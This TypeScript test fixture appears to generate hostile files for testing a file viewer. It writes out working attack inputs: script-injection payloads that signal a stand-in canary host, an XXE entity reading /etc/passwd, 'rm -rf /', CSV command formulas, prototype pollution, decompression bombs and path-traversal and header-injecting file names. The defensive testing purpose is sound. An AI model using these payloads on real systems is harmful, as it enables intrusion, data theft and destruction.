import { deflateRawSync, deflateSync } from 'node:zlib'
import { aPdf } from './pdf.ts'

export interface HostileFile {
  name: string
  bytes: Uint8Array<ArrayBuffer>
}

/** Runs where the file is opened as a page or as a script; the name says which one it was. */
const run = (what: string) => `parent.ran?.('file ${what}');ran('file ${what}');fetch('https://canary.example/${what}')`
const script = (what: string) => `<script>${run(what)}</script>`
const page = (what: string) =>
  `<!doctype html><html><body onload="${run(what).replaceAll('"', "'")}">${script(what)}</body></html>`
const svg = (what: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${run(what)}">${script(what)}<rect width="9" height="9"/></svg>`
const binary = (text: string) => Buffer.from(text, 'latin1')
const png = '\x89PNG\r\n\x1a\n'
const gifHead = (wide: number, high: number) => {
  const size = Buffer.alloc(4)
  size.writeUInt16LE(wide, 0)
  size.writeUInt16LE(high, 2)
  return Buffer.concat([
    binary('GIF89a'),
    size,
    binary('\x80\x00\x00\x00\x00\x00\xff\xff\xff,'),
    binary('\0\0\0\0'),
    size,
    binary('\0\x02\x02D\x01\0;'),
  ])
}

/** A chunk of a PNG; viewers that check its sum refuse it, ours reads it or says so. */
function chunk(kind: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc(Buffer.concat([binary(kind), data])))
  return Buffer.concat([length, binary(kind), data, sum])
}

function crc(bytes: Buffer): number {
  let sum = -1
  for (const byte of bytes) {
    sum ^= byte
    for (let bit = 0; bit < 8; bit++) sum = (sum >>> 1) ^ (0xedb88320 & -(sum & 1))
  }
  return (sum ^ -1) >>> 0
}

/** All black: little to send and much to draw. `pixels` says how many bytes of them there are. */
function pngOf(wide: number, high: number, pixels: number, ...more: Buffer[]): Buffer {
  const size = Buffer.alloc(13)
  size.writeUInt32BE(wide, 0)
  size.writeUInt32BE(high, 4)
  size[8] = 1
  const data = deflateSync(Buffer.alloc(pixels))
  return Buffer.concat([binary(png), chunk('IHDR', size), ...more, chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))])
}

/** A zip of one stored or deflated entry. */
function zip(name: string, content: Buffer, deflate = false): Buffer {
  const data = deflate ? deflateRawSync(content) : content
  const head = Buffer.alloc(26)
  head.writeUInt16LE(20, 0)
  head.writeUInt16LE(deflate ? 8 : 0, 4)
  head.writeUInt32LE(crc(content), 10)
  head.writeUInt32LE(data.length, 14)
  head.writeUInt32LE(content.length, 18)
  head.writeUInt16LE(name.length, 22)
  return Buffer.concat([binary('PK\x03\x04'), head, Buffer.from(name), data])
}

const mime = (kind: string, what: string) =>
  `MIME-Version: 1.0\r\nSubject: x\r\nContent-Type: ${kind}\r\nContent-Location: https://canary.example/\r\n\r\n${page(what)}`

const all: [name: string, content: string | Buffer][] = [
  ['logo.svg', svg('svg')],
  ['logo.svg.png', svg('svg-png')],
  ['page.html', page('html')],
  ['page.html.png', page('html-png')],
  ['page.xhtml', `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>${script('xhtml')}</body></html>`],
  [
    'feed.xml',
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://canary.example/x.xsl"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${run('xml')}</h:script></x>`,
  ],
  [
    'entity.xml',
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&e;&b;</x>`,
  ],
  ['style.css', `@import "https://canary.example/style";body{background:url("javascript:${run('css')}")}`],
  ['code.js', run('js')],
  ['module.mjs', `export default ${run('mjs').replaceAll(';', ',')}`],
  ['both.gif', binary(`GIF89a/*\0\0\x80\0\0\0\0\0\xff\xff\xff*/=1;${run('gif-js')}`)],
  ['both.pdf', `%PDF-1.4\n${page('pdf-html')}`],
  ['script.pdf', aPdf('Script')],
  ['program.exe', binary(`MZ${'\0'.repeat(60)}${script('exe')}`)],
  ['program.png', binary(`MZ${'\0'.repeat(60)}${script('exe-png')}`)],
  ['program.sh', `#!/bin/sh\n# ${script('sh')}\nrm -rf /\n`],
  ['bom.txt', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(page('bom'))])],
  ['utf7.txt', `+ADw-script+AD4-${run('utf7')}+ADw-/script+AD4-`],
  ['utf16.txt', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(page('utf16'), 'utf16le')])],
  ['sniff.bin', `\n\n   <!-- ${'x'.repeat(600)} --><html>${script('sniff')}`],
  ['sniff', `<html>${script('no-ending')}</html>`],
  ['formulas.csv', `name;sum\n=cmd|'/C calc'!A0;@SUM(1)\n"${script('csv')}","=HYPERLINK(""https://canary.example"")"\n`],
  ['data.json', `{"__proto__":{"x":1},"html":"${script('json').replaceAll('/', '\\/')}"}`],
  ['code.wasm', binary('\0asm\x01\0\0\0')],
  ['saved.mht', mime('multipart/related; type="text/html"', 'mht')],
  ['letter.eml', mime('text/html', 'eml')],
  ['film.swf', binary(`FWS\x0a${script('swf')}`)],
  ['favicon.ico', Buffer.concat([binary('\0\0\x01\0\x01\0\x01\x01\0\0\x01\0\x20\0'), Buffer.from(script('ico'))])],
  ['broken.webp', Buffer.concat([binary('RIFF\xff\xff\xff\x7fWEBPVP8X'), Buffer.from(script('webp'))])],
  ['macro.docm', zip('word/vbaProject.bin', Buffer.from(script('docm')))],
  ['bomb.png', pngOf(20_000, 20_000, 20_000 * 2_501)],
  ['huge.png', pngOf(2_000_000_000, 2_000_000_000, 1_000)],
  ['huge.gif', gifHead(65_535, 65_535)],
  ['text.png', pngOf(8, 8, 16, chunk('tEXt', Buffer.from(`Comment\0${page('png-text')}`)))],
  ['bomb.zip.png', zip('a.png', Buffer.alloc(4_000_000), true)],
  ['sound.mp3', binary(`ID3\x04\0\0\0\0\0\x0f${script('mp3')}`)],
  ['film.mp4', binary(`\0\0\0\x18ftypisom\0\0\0\0${page('mp4')}`)],
  ['../../etc/passwd', 'root:x:0:0'],
  ['invoice\u202egnp.exe" onmouseover="ran(1)\u0000\r\nSet-Cookie: a=b.html', page('named')],
  [`<img src=x onerror=ran('name')>${'n'.repeat(800)}.png`, binary(`${png}${page('cut-png')}`)],
]

/** What would run, mislead or exhaust who opens it, small and made here [T-43]. */
export const hostileFiles: readonly HostileFile[] = all.map(([name, content]) => ({
  name,
  bytes: new Uint8Array(Buffer.from(content as string)),
}))
